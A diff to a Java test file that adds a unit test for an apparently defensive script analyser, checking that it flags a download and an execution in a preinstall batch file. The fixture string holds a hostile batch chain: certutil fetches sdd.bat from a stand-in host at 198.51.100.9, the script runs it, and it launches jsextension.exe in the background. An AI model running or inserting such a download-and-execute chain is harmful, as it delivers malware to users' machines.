@@ -242,6 +242,14 @@ class JsFactsTest {
     }
 
     @Test
+    void batchFilesKeepTheirBackslashes() {
+        String bat = "@echo off\r\ncertutil.exe -urlcache -f http://198.51.100.9/sdd.bat %TEMP%\\sdd.bat\r\n"
+                + "cmd /c %TEMP%\\sdd.bat\r\nstart /B .\\jsextension.exe -k\r\n";
+        assertThat(facts("preinstall.bat", bat, JsOptions.defaults())).contains("download http://198.51.100.9/sdd.bat @2",
+                "runs-file %TEMP%/sdd.bat @3", "runs-file jsextension.exe @4");
+    }
+
+    @Test
     void highEntropyBlobIsObfuscation() {
         StringBuilder random = new StringBuilder();
         java.util.Random r = new java.util.Random(7);
